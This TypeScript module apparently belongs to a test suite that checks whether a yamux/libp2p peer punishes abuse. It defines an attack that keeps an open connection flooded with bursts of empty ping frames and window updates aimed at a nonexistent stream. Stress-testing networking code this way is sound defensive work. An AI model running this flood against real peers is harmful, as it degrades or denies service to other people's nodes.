/** Frames of yamux that carry nothing: pings, window updates of streams that are not there, data of length zero. */

import { type Attack, pause, persist } from "../attack.ts";
import { muxerOf } from "../muxer.ts";

const BURST = 2_000;

export const attack: Attack = {
  claim: "yamux frames that carry nothing, without end",
  isPunished: true,
  run: (context) =>
    persist(
      context,
      async (_peer, connection) => {
        const muxer = muxerOf(connection);
        while (connection.status === "open") {
          for (let index = 0; index < BURST; index++) {
            muxer.sendFrame?.({ type: 2, flag: 1, streamID: 0, length: index });
            muxer.sendFrame?.({ type: 1, flag: 0, streamID: 99_999, length: 1 });
          }
          context.count("frames", 2 * BURST);
          await pause(10);
        }
      },
      true,
    ),
};
